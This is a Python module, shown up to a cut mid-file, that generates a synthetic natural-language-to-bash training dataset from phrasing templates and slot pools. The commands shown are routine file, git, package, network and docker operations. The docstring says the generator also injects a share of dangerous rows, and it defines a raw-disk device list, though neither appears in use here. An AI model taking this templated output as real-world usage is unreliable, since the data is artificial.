"""The embedded NL→bash dataset: seeded, offline, written by this project.

`shelltune gen-data` writes `data/raw/shelltune_nl2bash.jsonl`,
the committed default input of the split stage; a test regenerates it and checks it is byte-identical.

Each family is a set of phrasings and one command template over shared slot pools. A slot value is
either plain text or an (english, shell) pair, so "larger than 100 MB" can pair with `-size +100M`.
Like scraped data, the output also holds a few percent of dangerous targets and some exact and
near-duplicate rows; the split stage is expected to remove them. Harmful requests also appear with the
answer the model should learn (`SAFE_RESPONSES`): a refusal as a shell comment, or a safer command.
"""

from __future__ import annotations

import random
import re
from collections.abc import Callable
from dataclasses import dataclass, field

DEFAULT_OUT = "data/raw/shelltune_nl2bash.jsonl"
DEFAULT_SEED = 20261121
PER_FAMILY = 40
DANGEROUS_SHARE = 0.03
DUPLICATE_SHARE = 0.04

Slot = list[str] | list[tuple[str, str]] | Callable[[random.Random], str | tuple[str, str]]

FILES = [
    "report.txt",
    "notes.md",
    "data.csv",
    "app.log",
    "config.yaml",
    "main.py",
    "index.html",
    "server.js",
    "README.md",
    "todo.txt",
    "results.json",
    "error.log",
    "access.log",
    "setup.sh",
    "style.css",
    "users.csv",
    "backup.sql",
    "photo.jpg",
    "invoice.pdf",
    "requirements.txt",
    "package.json",
    "schema.sql",
    "deploy.sh",
    "summary.txt",
    "metrics.json",
    "output.txt",
    "input.txt",
    "words.txt",
    "names.txt",
    "settings.ini",
]
# gzip'd copies the fixture keeps in backups/daily/ (their uncompressed names exist nowhere): `gunzip` restores
# them, while `gzip FILE` compresses a file of FILES (one world cannot hold both notes.md and notes.md.gz).
GZIPPED = [f"backups/daily/{name}" for name in FILES]
TEXT_FILES = [
    "report.txt",
    "notes.md",
    "app.log",
    "todo.txt",
    "error.log",
    "access.log",
    "names.txt",
    "summary.txt",
    "output.txt",
    "input.txt",
    "words.txt",
    "server.log",
    "debug.log",
    "syslog.txt",
    "messages.txt",
    "urls.txt",
    "emails.txt",
    "hosts.txt",
]
CSV_FILES = [
    "data.csv",
    "users.csv",
    "sales.csv",
    "orders.csv",
    "inventory.csv",
    "scores.csv",
    "employees.csv",
    "prices.csv",
]
JSON_FILES = ["config.json", "package.json", "results.json", "metrics.json", "response.json", "data.json"]
SCRIPTS = ["setup.sh", "deploy.sh", "build.sh", "run.sh", "backup.sh", "install.sh", "start.sh", "test.sh"]
LOGS = [
    "app.log",
    "error.log",
    "access.log",
    "/var/log/syslog",
    "/var/log/nginx/access.log",
    "/var/log/nginx/error.log",
    "server.log",
    "debug.log",
    "/var/log/auth.log",
    "logs/app.log",
]
DIRS = [
    "src",
    "logs",
    "build",
    "docs",
    "data",
    "tmp",
    "scripts",
    "images",
    "backups",
    "config",
    "tests",
    "dist",
    "/var/log",
    "/tmp",
    "/etc/nginx",
    "/opt/app",
    "~/projects",
    "~/Downloads",
    "~/Documents",
    "/srv/www",
    "assets",
    "notes",
    "reports",
    "archive",
    "/var/www/html",
    "~/music",
]
LOCAL_DIRS = [
    "build",
    "dist",
    "tmp",
    "cache",
    "node_modules",
    "out",
    "target",
    "__pycache__",
    ".pytest_cache",
    "coverage",
    "logs/old",
    "tmp/session",
]
NEW_DIRS = [
    "backup",
    "old",
    "archive",
    "2024",
    "drafts",
    "releases",
    "exports",
    "screenshots",
    "raw",
    "processed",
    "fixtures",
    "templates",
]
EXTS = [
    "txt",
    "log",
    "py",
    "js",
    "csv",
    "json",
    "md",
    "sh",
    "conf",
    "jpg",
    "png",
    "html",
    "yaml",
    "sql",
    "pdf",
    "go",
    "rs",
    "java",
    "ts",
    "xml",
]
TEMP_EXTS = ["tmp", "bak", "pyc", "log", "swp", "o", "orig", "cache"]
PATTERNS = [
    "error",
    "TODO",
    "failed",
    "timeout",
    "WARNING",
    "localhost",
    "password",
    "import",
    "404",
    "ERROR",
    "deprecated",
    "FIXME",
    "null",
    "Exception",
    "denied",
    "main",
    "debug",
    "version",
    "user_id",
    "api_key",
]
WORDS = [
    "foo",
    "bar",
    "http",
    "https",
    "dev",
    "prod",
    "colour",
    "color",
    "old",
    "new",
    "v1",
    "v2",
    "localhost",
    "staging",
    "true",
    "false",
]
USERS = ["alice", "bob", "deploy", "www-data", "postgres", "carol", "dave", "jenkins", "ubuntu", "admin"]
# A pool a family draws from is only ever replaced by one of the same size with distinct values: rng.choice
# draws by size, so every other row, the groups and the train/val/test split stay exactly as they were.
# Users the fixture world does not have yet: `useradd` adds them (USERS exist: usermod, chown act on them).
NEW_USERS = ["erin", "frank", "grace", "heidi", "ivan", "judy", "kevin", "laura", "mike", "nina"]
GROUPS = ["docker", "sudo", "developers", "www-data", "staff", "admin", "audio", "wheel"]
HOSTS = [
    "example.com",
    "192.168.1.10",
    "db.internal",
    "github.com",
    "10.0.0.5",
    "api.example.org",
    "backup.local",
    "8.8.8.8",
    "web01",
    "172.16.0.20",
    "build.example.net",
    "server.lan",
]
DOMAINS = [
    "example.com",
    "github.com",
    "python.org",
    "wikipedia.org",
    "example.org",
    "debian.org",
    "openai.com",
    "kernel.org",
]
PORTS = ["22", "80", "443", "8080", "3000", "5432", "6379", "8000", "9090", "3306", "5000", "8443"]
# `lsof -i :PORT` asks which process holds a port: the fixture's services listen on these (sshd on 2222,
# nginx on 8081 and java on 9443 instead of 22, 80 and 443, which its unprivileged user cannot bind; dockerd's
# API on 2375 instead of MySQL's 3306, a service the fixture does not run).
LSOF_PORTS = ["2222", "8081", "9443", "8080", "3000", "5432", "6379", "8000", "9090", "2375", "5000", "8443"]
PROCS = [
    "nginx",
    "python",
    "node",
    "java",
    "postgres",
    "redis-server",
    "firefox",
    "chrome",
    "sshd",
    "dockerd",
    "gunicorn",
    "celery",
]
PKGS = [
    "curl",
    "git",
    "htop",
    "vim",
    "jq",
    "nginx",
    "tmux",
    "tree",
    "wget",
    "ripgrep",
    "zip",
    "unzip",
    "make",
    "gcc",
    "ffmpeg",
    "sqlite3",
    "rsync",
    "ncdu",
]
PIP_PKGS = [
    "requests",
    "numpy",
    "pandas",
    "flask",
    "pytest",
    "black",
    "django",
    "scipy",
    "matplotlib",
    "fastapi",
    "rich",
    "httpx",
]
NPM_PKGS = ["express", "react", "lodash", "typescript", "eslint", "axios", "prettier", "jest", "vite"]
# Branches the fixture's repository has (`git push origin feature/login`) ...
BRANCHES = [
    "main",
    "develop",
    "feature/login",
    "bugfix/header",
    "release/1.2",
    "hotfix/crash",
    "feature/search",
    "docs/readme",
    "feature/api-v2",
    "experiment",
]
# ... and branches it does not have yet (`git checkout -b feature/signup`).
NEW_BRANCHES = [
    "feature/signup",
    "bugfix/footer",
    "release/1.3",
    "hotfix/login-loop",
    "feature/export",
    "docs/install",
    "feature/api-v3",
    "spike/cache",
    "chore/deps",
    "wip/refactor",
]
SERVICES = ["nginx", "docker", "ssh", "postgresql", "redis", "cron", "apache2", "mysql", "bluetooth", "cups"]
CONTAINERS = ["web", "db", "redis", "api", "worker", "proxy", "app", "cache"]
IMAGES = ["nginx", "ubuntu:22.04", "postgres:16", "python:3.11", "redis:7", "alpine", "node:20", "mysql:8"]
ARCHIVES = ["backup", "project", "logs", "site", "release", "photos", "data", "docs", "src", "website"]
URLS = [
    "https://example.com/file.tar.gz",
    "https://example.org/data.csv",
    "https://downloads.example.net/tool.zip",
    "https://example.com/image.iso",
    "https://raw.example.com/config.yaml",
    "https://files.example.org/report.pdf",
    "https://example.com/index.html",
    "https://mirror.example.net/archive.tar.xz",
]
REPOS = [
    "https://github.com/torvalds/linux.git",
    "https://github.com/psf/requests.git",
    "https://github.com/pallets/flask.git",
    "git@github.com:acme/website.git",
    "https://gitlab.com/acme/api.git",
    "https://github.com/numpy/numpy.git",
]
MESSAGES = [
    "fix typo",
    "add tests",
    "update readme",
    "initial commit",
    "refactor parser",
    "bump version",
    "fix login bug",
    "add logging",
    "remove dead code",
    "update dependencies",
]
ENV_VARS = ["PATH", "HOME", "EDITOR", "JAVA_HOME", "NODE_ENV", "PYTHONPATH", "LANG", "DEBUG"]
ENV_VALUES = [
    ("NODE_ENV", "production"),
    ("EDITOR", "vim"),
    ("DEBUG", "1"),
    ("LANG", "en_US.UTF-8"),
    ("PYTHONPATH", "src"),
    ("JAVA_HOME", "/usr/lib/jvm/java-17"),
    ("PORT", "8080"),
    ("LOG_LEVEL", "debug"),
]
DEVICES = ["/dev/sda", "/dev/sdb", "/dev/sdb1", "/dev/nvme0n1", "/dev/sdc", "/dev/vda", "/dev/mmcblk0"]
SIZES = [
    ("100 MB", "100M"),
    ("1 GB", "1G"),
    ("10 MB", "10M"),
    ("500 MB", "500M"),
    ("50 kilobytes", "50k"),
    ("2 gigabytes", "2G"),
    ("200 megabytes", "200M"),
    ("5 MB", "5M"),
]
MODES = [
    ("readable by everyone but writable only by the owner", "644"),
    ("private to the owner", "600"),
    ("executable by everyone", "755"),
    ("readable by the owner and group only", "640"),
    ("read-only for the owner", "400"),
    ("fully accessible to the owner and group", "770"),
]
DATE_FORMATS = [
    ("year-month-day", "+%Y-%m-%d"),
    ("hours and minutes", "+%H:%M"),
    ("ISO 8601 format", "--iso-8601=seconds"),
    ("day of the week", "+%A"),
    ("seconds since the epoch", "+%s"),
    ("UTC", "-u"),
    ("month name and year", "+%B %Y"),
    ("RFC 2822 format", "-R"),
]
ACTIONS = [
    ("restart", "restart"),
    ("stop", "stop"),
    ("start", "start"),
    ("check the status of", "status"),
    ("enable at boot", "enable"),
    ("reload", "reload"),
]


def number(low: int, high: int) -> Callable[[random.Random], str]:
    return lambda rng: str(rng.randint(low, high))


@dataclass(frozen=True)
class Family:
    name: str
    phrasings: list[str]
    command: str
    slots: dict[str, Slot] = field(default_factory=dict)


def fam(name: str, phrasings: list[str], command: str, **slots: Slot) -> Family:
    return Family(name, phrasings, command, slots)


FAMILIES: list[Family] = [
    fam(
        "ls",
        [
            "list the files in {d}",
            "show what is in {d}",
            "what files are in {d}",
            "display the contents of the directory {d}",
            "list directory {d}",
        ],
        "ls {d}",
        d=DIRS,
    ),
    fam(
        "ls_hidden",
        [
            "list all files in {d} including hidden ones",
            "show hidden files in {d} with details",
            "long listing of {d} with dotfiles",
            "list everything in {d}, hidden files too, in long format",
        ],
        "ls -la {d}",
        d=DIRS,
    ),
    fam(
        "ls_size",
        ["list files in {d} sorted by size", "show the biggest files in {d} first", "list {d} ordered by file size"],
        "ls -lS {d}",
        d=DIRS,
    ),
    fam(
        "ls_time",
        [
            "list files in {d} by modification time, newest first",
            "show recently changed files in {d}",
            "sort the listing of {d} by date",
        ],
        "ls -lt {d}",
        d=DIRS,
    ),
    fam(
        "mkdir",
        [
            "create the directory {d}/{n}",
            "make a folder called {n} inside {d}",
            "create {d}/{n} including any missing parents",
            "make a new directory {n} under {d}",
        ],
        "mkdir -p {d}/{n}",
        d=DIRS,
        n=NEW_DIRS,
    ),
    fam(
        "rm_file",
        ["delete the file {f}", "remove {f}", "get rid of {f}", "erase the file named {f}"],
        "rm {f}",
        f=FILES,
    ),
    fam(
        "rm_build",
        [
            "delete the {d} directory and everything in it",
            "remove the local folder {d} recursively",
            "clean up the {d} directory in the current project",
            "wipe out ./{d}",
        ],
        "rm -rf ./{d}",
        d=LOCAL_DIRS,
    ),
    fam(
        "cp",
        ["copy {f} into {d}", "make a copy of {f} in {d}", "copy the file {f} to the {d} directory"],
        "cp {f} {d}/",
        f=FILES,
        d=DIRS,
    ),
    fam(
        "cp_dir",
        ["copy the directory {a} to {b}", "duplicate the folder {a} as {b}", "recursively copy {a} into {b}"],
        "cp -r {a} {b}",
        a=DIRS,
        b=NEW_DIRS,
    ),
    fam(
        "mv_rename",
        ["rename {a} to {b}", "change the name of {a} to {b}", "move {a} to {b}"],
        "mv {a} {b}",
        a=FILES,
        b=FILES,
    ),
    fam(
        "mv_into",
        ["move {f} into {d}", "put {f} in the {d} folder", "relocate {f} to {d}"],
        "mv {f} {d}/",
        f=FILES,
        d=DIRS,
    ),
    fam(
        "touch",
        ["create an empty file called {f}", "make a new empty file {f}", "update the timestamp of {f}", "touch {f}"],
        "touch {f}",
        f=FILES,
    ),
    fam(
        "ln",
        [
            "create a symbolic link named {b} pointing to {a}",
            "make a symlink {b} to {a}",
            "link {a} as {b} with a soft link",
        ],
        "ln -s {a} {b}",
        a=FILES,
        b=["latest", "current", "link", "shortcut", "active"],
    ),
    fam(
        "cat",
        ["show the contents of {f}", "print {f} to the terminal", "display the file {f}", "output everything in {f}"],
        "cat {f}",
        f=FILES,
    ),
    fam(
        "head",
        [
            "show the first {n} lines of {f}",
            "print the top {n} lines of {f}",
            "display the beginning of {f}, {n} lines",
        ],
        "head -n {n} {f}",
        n=number(2, 60),
        f=TEXT_FILES,
    ),
    fam(
        "tail",
        ["show the last {n} lines of {f}", "print the final {n} lines of {f}", "display the end of {f}, {n} lines"],
        "tail -n {n} {f}",
        n=number(2, 60),
        f=TEXT_FILES,
    ),
    fam(
        "tail_follow",
        ["follow {f} as it grows", "watch new lines appended to {f}", "stream the log {f} live"],
        "tail -f {f}",
        f=LOGS,
    ),
    fam(
        "wc_lines",
        ["count the lines in {f}", "how many lines does {f} have", "number of lines in {f}"],
        "wc -l {f}",
        f=FILES,
    ),
    fam(
        "wc_words",
        ["count the words in {f}", "how many words are in {f}", "word count of {f}"],
        "wc -w {f}",
        f=TEXT_FILES,
    ),
    fam("sort", ["sort the lines of {f} alphabetically", "print {f} sorted", "sort {f}"], "sort {f}", f=TEXT_FILES),
    fam(
        "sort_numeric",
        [
            "sort {f} numerically in descending order",
            "sort the numbers in {f} from largest to smallest",
            "reverse numeric sort of {f}",
        ],
        "sort -nr {f}",
        f=TEXT_FILES,
    ),
    fam(
        "sort_unique",
        [
            "sort {f} and remove duplicate lines",
            "print the unique lines of {f} in sorted order",
            "deduplicate the lines of {f}",
        ],
        "sort -u {f}",
        f=TEXT_FILES,
    ),
    fam(
        "uniq_count",
        [
            "count how often each line appears in {f}",
            "show the most frequent lines in {f}",
            "frequency of each distinct line in {f}, most common first",
        ],
        "sort {f} | uniq -c | sort -nr",
        f=TEXT_FILES,
    ),
    fam(
        "cut",
        [
            "print column {k} of the comma-separated file {f}",
            "extract field {k} from {f}",
            "show only the {k} column of {f} using commas as separators",
        ],
        "cut -d',' -f{k} {f}",
        k=number(1, 9),
        f=CSV_FILES,
    ),
    fam(
        "awk_column",
        [
            "print the {k} word of every line in {f}",
            "show whitespace-separated column {k} of {f}",
            "use awk to print field {k} of {f}",
        ],
        "awk '{{print ${k}}}' {f}",
        k=number(1, 9),
        f=TEXT_FILES,
    ),
    fam(
        "sed_replace",
        [
            "replace every {a} with {b} in {f}",
            "substitute {a} by {b} in place in {f}",
            "change all occurrences of {a} to {b} inside {f}",
        ],
        "sed -i 's/{a}/{b}/g' {f}",
        a=WORDS,
        b=WORDS,
        f=FILES,
    ),
    fam(
        "sed_delete",
        [
            "delete every line containing {p} from {f}",
            "remove lines matching {p} in {f} in place",
            "strip all lines with {p} out of {f}",
        ],
        "sed -i '/{p}/d' {f}",
        p=PATTERNS,
        f=TEXT_FILES,
    ),
    fam(
        "tr_upper",
        ["convert {f} to upper case", "print {f} in capital letters", "uppercase all text in {f}"],
        "tr '[:lower:]' '[:upper:]' < {f}",
        f=TEXT_FILES,
    ),
    fam(
        "grep",
        [
            "search for {p} in {f}",
            "find lines containing {p} in {f}",
            "show the lines of {f} that mention {p}",
            "grep {f} for {p}",
        ],
        "grep '{p}' {f}",
        p=PATTERNS,
        f=FILES,
    ),
    fam(
        "grep_recursive",
        [
            "search every file under {d} for {p}",
            "find {p} anywhere in {d} with line numbers",
            "recursively grep {d} for {p}",
        ],
        "grep -rn '{p}' {d}",
        p=PATTERNS,
        d=DIRS,
    ),
    fam(
        "grep_ignore_case",
        [
            "search {f} for {p} ignoring case",
            "case-insensitive search for {p} in {f}",
            "find {p} in {f} regardless of capitalization",
        ],
        "grep -i '{p}' {f}",
        p=PATTERNS,
        f=FILES,
    ),
    fam(
        "grep_count",
        [
            "count the lines in {f} that contain {p}",
            "how many lines of {f} mention {p}",
            "number of matches of {p} in {f}",
        ],
        "grep -c '{p}' {f}",
        p=PATTERNS,
        f=FILES,
    ),
    fam(
        "grep_invert",
        [
            "show the lines of {f} that do not contain {p}",
            "print {f} without the lines matching {p}",
            "filter out {p} from {f}",
        ],
        "grep -v '{p}' {f}",
        p=PATTERNS,
        f=TEXT_FILES,
    ),
    fam(
        "find_name",
        [
            "find all .{e} files under {d}",
            "list every file ending in .{e} in {d} recursively",
            "locate the .{e} files inside {d}",
        ],
        "find {d} -name '*.{e}'",
        e=EXTS,
        d=DIRS,
    ),
    fam(
        "find_size",
        ["find files larger than {s} in {d}", "list files in {d} bigger than {s}", "which files under {d} exceed {s}"],
        "find {d} -type f -size +{s}",
        s=SIZES,
        d=DIRS,
    ),
    fam(
        "find_recent",
        [
            "find files in {d} modified in the last {n} days",
            "list files under {d} changed within {n} days",
            "show files in {d} edited during the past {n} days",
        ],
        "find {d} -type f -mtime -{n}",
        n=number(1, 30),
        d=DIRS,
    ),
    fam(
        "find_old",
        [
            "find files in {d} older than {n} days",
            "list files under {d} not modified for {n} days",
            "which files in {d} were last changed more than {n} days ago",
        ],
        "find {d} -type f -mtime +{n}",
        n=number(7, 365),
        d=DIRS,
    ),
    fam(
        "find_empty",
        ["find empty files in {d}", "list all zero-length files under {d}", "which files in {d} are empty"],
        "find {d} -type f -empty",
        d=DIRS,
    ),
    fam(
        "find_dirs",
        ["list all subdirectories of {d}", "find every directory under {d}", "show the folder tree of {d} as paths"],
        "find {d} -type d",
        d=DIRS,
    ),
    fam(
        "find_delete",
        ["delete all .{e} files in {d}", "remove every *.{e} file under ./{d}", "clean up the .{e} files inside {d}"],
        "find ./{d} -name '*.{e}' -delete",
        e=TEMP_EXTS,
        d=LOCAL_DIRS + ["src", "tests", "docs"],
    ),
    fam(
        "find_grep",
        [
            "find .{e} files in {d} that contain {p}",
            "list the .{e} files under {d} mentioning {p}",
            "which .{e} files in {d} include the text {p}",
        ],
        "find {d} -name '*.{e}' -exec grep -l '{p}' {{}} +",
        e=EXTS,
        d=DIRS,
        p=PATTERNS,
    ),
    fam(
        "xargs_wc",
        [
            "count the lines of all .{e} files in {d}",
            "total line count of the .{e} files under {d}",
            "how many lines of .{e} code are in {d}",
        ],
        "find {d} -name '*.{e}' | xargs wc -l",
        e=EXTS,
        d=DIRS,
    ),
    fam(
        "du",
        ["show how much space {d} uses", "disk usage of {d} in human readable form", "how big is {d}"],
        "du -sh {d}",
        d=DIRS,
    ),
    fam(
        "du_top",
        [
            "show the {n} largest items in {d}",
            "what are the {n} biggest directories under {d}",
            "list the top {n} space users in {d}",
        ],
        "du -h {d} | sort -rh | head -n {n}",
        n=number(3, 20),
        d=DIRS,
    ),
    fam(
        "df",
        ["show free disk space on {m}", "how full is the filesystem at {m}", "disk space left on {m}"],
        "df -h {m}",
        m=["/", "/home", "/var", "/tmp", "/boot", "/mnt/data", "/srv"],
    ),
    fam(
        "tar_create",
        [
            "create a gzipped tarball {a}.tar.gz of {d}",
            "archive {d} into {a}.tar.gz",
            "compress the directory {d} as {a}.tar.gz",
        ],
        "tar -czf {a}.tar.gz {d}",
        a=ARCHIVES,
        d=DIRS,
    ),
    fam(
        "tar_extract",
        [
            "extract {a}.tar.gz into {d}",
            "unpack the archive {a}.tar.gz in {d}",
            "decompress {a}.tar.gz to the {d} directory",
        ],
        "tar -xzf {a}.tar.gz -C {d}",
        a=ARCHIVES,
        d=DIRS,
    ),
    fam(
        "tar_list",
        [
            "list the contents of {a}.tar.gz",
            "show what files are inside {a}.tar.gz",
            "what is in the tarball {a}.tar.gz",
        ],
        "tar -tzf {a}.tar.gz",
        a=ARCHIVES,
    ),
    fam(
        "zip",
        ["zip the folder {d} into {a}.zip", "create a zip archive {a}.zip from {d}", "compress {d} as {a}.zip"],
        "zip -r {a}.zip {d}",
        a=ARCHIVES,
        d=DIRS,
    ),
    fam(
        "unzip",
        ["unzip {a}.zip into {d}", "extract {a}.zip to {d}", "unpack the zip file {a}.zip in {d}"],
        "unzip {a}.zip -d {d}",
        a=ARCHIVES,
        d=DIRS,
    ),
    fam("gzip", ["compress {f} with gzip", "gzip the file {f}", "make {f} a .gz file"], "gzip {f}", f=FILES),
    fam(
        "gunzip",
        ["decompress {f}.gz", "gunzip {f}.gz", "uncompress the gzip file {f}.gz"],
        "gunzip {f}.gz",
        f=GZIPPED,
    ),
    fam(
        "chmod_exec",
        ["make {f} executable", "give {f} execute permission", "allow {f} to be run as a program"],
        "chmod +x {f}",
        f=SCRIPTS,
    ),
    fam(
        "chmod_mode",
        ["make {f} {m}", "set the permissions of {f} so it is {m}", "change the mode of {f} to be {m}"],
        "chmod {m} {f}",
        m=MODES,
        f=FILES,
    ),
    fam(
        "chown",
        ["change the owner of {f} to {u}", "give ownership of {f} to user {u}", "make {u} own {f}"],
        "chown {u} {f}",
        u=USERS,
        f=FILES,
    ),
    fam(
        "chown_group",
        [
            "change the owner of ./{d} to {u} and group {g}, recursively",
            "make {u}:{g} own everything in ./{d}",
            "recursively set owner {u} and group {g} on ./{d}",
        ],
        "chown -R {u}:{g} ./{d}",
        u=USERS,
        g=GROUPS,
        d=LOCAL_DIRS + NEW_DIRS,
    ),
    fam(
        "ps_grep",
        ["show running {p} processes", "is {p} running", "list processes named {p}", "find the {p} process"],
        "ps aux | grep {p}",
        p=PROCS,
    ),
    fam(
        "kill",
        ["kill process {n}", "terminate the process with id {n}", "stop pid {n}"],
        "kill {n}",
        n=number(1000, 65000),
    ),
    fam(
        "kill_force",
        ["force kill process {n}", "kill -9 the process {n}", "send SIGKILL to pid {n}"],
        "kill -9 {n}",
        n=number(1000, 65000),
    ),
    fam(
        "pkill",
        ["kill all {p} processes", "stop every process named {p}", "terminate {p} by name"],
        "pkill {p}",
        p=PROCS,
    ),
    fam(
        "pgrep",
        ["get the process ids of {p}", "which pids belong to {p}", "print the pid of {p}"],
        "pgrep {p}",
        p=PROCS,
    ),
    fam(
        "lsof_port",
        ["which process is using port {p}", "what is listening on port {p}", "find the program bound to port {p}"],
        "lsof -i :{p}",
        p=LSOF_PORTS,
    ),
    fam(
        "ss_port",
        [
            "show listening TCP sockets on port {p}",
            "check if anything listens on port {p}",
            "list listening sockets and filter for port {p}",
        ],
        "ss -tlnp | grep ':{p}'",
        p=PORTS,
    ),
    fam(
        "ping",
        ["ping {h} {n} times", "send {n} pings to {h}", "check if {h} is reachable with {n} packets"],
        "ping -c {n} {h}",
        n=number(1, 10),
        h=HOSTS,
    ),
    fam(
        "curl_download",
        ["download {u} and save it as {f}", "fetch {u} into the file {f}", "save {u} to {f} with curl"],
        "curl -L -o {f} {u}",
        u=URLS,
        f=FILES,
    ),
    fam(
        "curl_headers",
        [
            "show the HTTP headers of https://{h}",
            "fetch only the response headers from https://{h}",
            "check the status line of https://{h}",
        ],
        "curl -I https://{h}",
        h=DOMAINS,
    ),
    fam(
        "wget",
        ["download {u} with wget", "wget the file at {u}", "grab {u} into the current directory"],
        "wget {u}",
        u=URLS,
    ),
    fam(
        "ssh",
        ["connect to {h} as {u} over ssh", "ssh into {h} with the user {u}", "log in to {h} as {u}"],
        "ssh {u}@{h}",
        u=USERS,
        h=HOSTS,
    ),
    fam(
        "ssh_port",
        [
            "ssh to {h} as {u} on port {p}",
            "connect over ssh to {u}@{h} using port {p}",
            "open an ssh session to {h} port {p} as {u}",
        ],
        "ssh -p {p} {u}@{h}",
        u=USERS,
        h=HOSTS,
        p=["2222", "22", "2200", "8022", "10022"],
    ),
    fam(
        "scp",
        ["copy {f} to {h} in /tmp as {u}", "upload {f} to {u}@{h}:/tmp", "send {f} to the /tmp folder on {h} as {u}"],
        "scp {f} {u}@{h}:/tmp/",
        f=FILES,
        u=USERS,
        h=HOSTS,
    ),
    fam(
        "rsync",
        [
            "sync {d} to {h} under /backup as {u}",
            "mirror {d} onto {u}@{h}:/backup",
            "rsync the folder {d} to /backup on {h}",
        ],
        "rsync -avz {d}/ {u}@{h}:/backup/",
        d=DIRS,
        u=USERS,
        h=HOSTS,
    ),
    fam(
        "dig",
        ["look up the IP address of {h}", "resolve {h} with DNS", "what IP does {h} point to"],
        "dig +short {h}",
        h=DOMAINS,
    ),
    fam(
        "git_log",
        [
            "show the last {n} commits in one line each",
            "git history, {n} most recent commits, compact",
            "list the {n} latest commits briefly",
        ],
        "git log --oneline -n {n}",
        n=number(2, 50),
    ),
    fam(
        "git_branch",
        [
            "create and switch to a new branch {b}",
            "start a new git branch called {b}",
            "check out a new branch named {b}",
        ],
        "git checkout -b {b}",
        b=NEW_BRANCHES,
    ),
    fam(
        "git_commit",
        [
            "commit all staged changes with the message '{m}'",
            "git commit with message {m}",
            "record the staged changes as '{m}'",
        ],
        "git commit -m '{m}'",
        m=MESSAGES,
    ),
    fam(
        "git_clone",
        ["clone the repository {r}", "git clone {r}", "download the git repo {r}"],
        "git clone {r}",
        r=REPOS,
    ),
    fam(
        "git_diff",
        ["show uncommitted changes to {f}", "what changed in {f} since the last commit", "diff {f} against HEAD"],
        "git diff {f}",
        f=FILES,
    ),
    fam(
        "git_push",
        ["push the branch {b} to origin", "upload {b} to the remote", "git push {b}"],
        "git push origin {b}",
        b=BRANCHES,
    ),
    fam(
        "apt_install",
        ["install {p} with apt", "install the package {p}", "apt-get install {p} without prompting"],
        "sudo apt-get install -y {p}",
        p=PKGS,
    ),
    fam(
        "apt_remove",
        ["uninstall {p}", "remove the package {p} with apt", "apt remove {p}"],
        "sudo apt-get remove {p}",
        p=PKGS,
    ),
    fam(
        "pip_install",
        ["install the Python package {p}", "pip install {p}", "add {p} to my Python environment"],
        "pip install {p}",
        p=PIP_PKGS,
    ),
    fam(
        "pip_install_version",
        ["install {p} version {v}", "pip install {p} pinned to {v}", "get exactly version {v} of {p}"],
        "pip install {p}=={v}",
        p=PIP_PKGS,
        v=["1.0.0", "2.1.3", "0.9.2", "3.2.1", "1.26.4", "2.31.0"],
    ),
    fam(
        "npm_install",
        ["install the npm package {p}", "add {p} to the node project", "npm install {p}"],
        "npm install {p}",
        p=NPM_PKGS,
    ),
    fam(
        "npm_dev",
        ["install {p} as a dev dependency", "add {p} to devDependencies", "npm install {p} for development only"],
        "npm install --save-dev {p}",
        p=NPM_PKGS,
    ),
    fam(
        "useradd",
        ["create a new user {u} with a home directory", "add the user account {u}", "make a user called {u}"],
        "sudo useradd -m {u}",
        u=NEW_USERS,
    ),
    fam(
        "usermod_group",
        ["add {u} to the {g} group", "put user {u} in group {g}", "give {u} membership of {g}"],
        "sudo usermod -aG {g} {u}",
        u=USERS,
        g=GROUPS,
    ),
    fam(
        "date_format",
        ["print today's date in {f}", "show the current date as {f}", "what is the time now in {f}"],
        "date {f}",
        f=DATE_FORMATS,
    ),
    fam(
        "date_epoch",
        ["convert the timestamp {n} to a date", "what date is epoch {n}", "turn unix time {n} into a readable date"],
        "date -d @{n}",
        n=number(1_000_000_000, 1_900_000_000),
    ),
    fam(
        "systemctl",
        ["{a} the {s} service", "use systemctl to {a} {s}", "{a} {s}"],
        "sudo systemctl {a} {s}",
        a=ACTIONS,
        s=SERVICES,
    ),
    fam(
        "journalctl",
        [
            "show the logs of the {s} service from the last {n} hours",
            "journal entries for {s} in the past {n} hours",
            "what did {s} log during the last {n} hours",
        ],
        "journalctl -u {s} --since '{n} hours ago'",
        s=SERVICES,
        n=number(1, 48),
    ),
    fam(
        "checksum",
        ["compute the SHA-256 checksum of {f}", "sha256 hash of {f}", "verify {f} by printing its sha256"],
        "sha256sum {f}",
        f=FILES + [a + ".tar.gz" for a in ARCHIVES],
    ),
    fam(
        "md5",
        ["compute the MD5 checksum of {f}", "md5 hash of {f}", "print the md5sum of {f}"],
        "md5sum {f}",
        f=FILES + [a + ".zip" for a in ARCHIVES],
    ),
    fam(
        "diff",
        ["compare {a} and {b}", "show the differences between {a} and {b}", "unified diff of {a} against {b}"],
        "diff -u {a} {b}",
        a=FILES,
        b=FILES,
    ),
    fam("base64_encode", ["base64 encode {f}", "print {f} as base64", "convert {f} to base64"], "base64 {f}", f=FILES),
    fam(
        "split_lines",
        [
            "split {f} into files of {n} lines each",
            "break {f} into chunks of {n} lines",
            "cut {f} into pieces with {n} lines per file",
        ],
        "split -l {n} {f} part_",
        f=TEXT_FILES + CSV_FILES,
        n=number(100, 5000),
    ),
    fam(
        "jq",
        ["print the {k} field of {f}", "extract .{k} from the JSON file {f}", "use jq to read {k} from {f}"],
        "jq '.{k}' {f}",
        k=["name", "version", "data", "items", "status", "id", "config", "results"],
        f=JSON_FILES,
    ),
    fam(
        "docker_logs",
        ["follow the logs of the {c} container", "stream docker logs for {c}", "tail the {c} container's output"],
        "docker logs -f {c}",
        c=CONTAINERS,
    ),
    fam(
        "docker_exec",
        ["open a shell in the {c} container", "get a bash prompt inside {c}", "exec into the docker container {c}"],
        "docker exec -it {c} bash",
        c=CONTAINERS,
    ),
    fam(
        "docker_run",
        [
            "run {i} in the background as {c} with port {p} published",
            "start a detached {i} container named {c} on port {p}",
            "launch {i} as {c}, mapping port {p}",
        ],
        "docker run -d --name {c} -p {p}:{p} {i}",
        i=IMAGES,
        c=CONTAINERS,
        p=PORTS,
    ),
    fam(
        "echo_append",
        ["append the line '{w}' to {f}", "add '{w}' at the end of {f}", "write '{w}' as a new last line of {f}"],
        "echo '{w}' >> {f}",
        w=WORDS + PATTERNS,
        f=TEXT_FILES,
    ),
    fam(
        "export",
        ["set the environment variable {v}", "export {v} for this shell", "define {v} in the environment"],
        "export {v}",
        v=[(f"{k} to {val}", f"{k}={val}") for k, val in ENV_VALUES],
    ),
    fam(
        "env_grep",
        ["show the value of {v}", "print the environment variable {v}", "what is {v} set to"],
        "echo ${v}",
        v=ENV_VARS,
    ),
    fam(
        "which",
